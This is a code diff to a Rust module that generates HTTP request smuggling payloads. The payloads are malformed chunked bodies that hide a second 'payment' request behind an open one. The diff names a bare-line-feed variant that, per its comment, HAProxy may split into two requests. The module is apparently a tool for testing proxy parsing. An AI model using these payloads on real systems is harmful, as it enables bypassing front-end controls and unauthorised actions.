@@ -9,6 +9,10 @@ pub(crate) struct Attack {
     pub(crate) pipelined: bool,
 }
 
+/// A front refuses it. HAProxy may take it for two requests, and then hands on two whose
+/// framing is beyond doubt.
+pub(crate) const LINE_FEEDS_ALONE: &str = "line feeds alone between chunks";
+
 /// Every attack, with `open` as the payment it shows and `hidden` as the one it smuggles.
 pub(crate) fn attacks(open: &str, hidden: &str) -> Vec<Attack> {
     let smuggled = request("", hidden);
@@ -169,7 +173,6 @@ fn odd_chunks(open: &str, smuggled: &str) -> Vec<Attack> {
         format!("+{length:x}\r\n{open}\r\n0\r\n\r\n"),
         format!("-{length:x}\r\n{open}\r\n0\r\n\r\n"),
         format!("1000000000000000{length:x}\r\n{open}\r\n0\r\n\r\n"),
-        format!("{length:x}\n{open}\n0\n\n"),
         format!("{length:x};\n{open}\r\n0\r\n\r\n"),
         format!("{:x}\r\n{open}\r\n0\r\n\r\n", length - 1),
         format!("{:x}\r\n{open}\r\n0\r\n\r\n", length + 1),
@@ -179,6 +182,10 @@ fn odd_chunks(open: &str, smuggled: &str) -> Vec<Attack> {
     ]
     .map(|chunks| attack("odd chunks", format!("{head}\r\n{chunks}{smuggled}")))
     .into_iter()
+    .chain([attack(
+        LINE_FEEDS_ALONE,
+        format!("{head}\r\n{length:x}\n{open}\n0\n\n{smuggled}"),
+    )])
     .chain(
         [
             // An extension ends with its line, whatever it says, and is ignored.
